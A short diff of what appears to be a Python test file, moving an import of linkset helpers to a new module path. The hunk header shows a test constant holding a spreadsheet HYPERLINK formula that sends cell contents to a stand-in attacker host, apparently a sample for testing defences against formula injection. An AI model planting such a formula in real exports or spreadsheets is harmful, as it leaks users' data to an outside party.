@@ -41,7 +41,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def _linkset_with_many_links(root: Path, n: int) -> None:
-    from visitgraph.linkset_files import DEFAULT_PREDICATE, Link, render_linkset
+    from visitgraph.linking.linkset_files import DEFAULT_PREDICATE, Link, render_linkset
 
     settings = settings_for(root)
     iri = settings.base_iri + PERSON
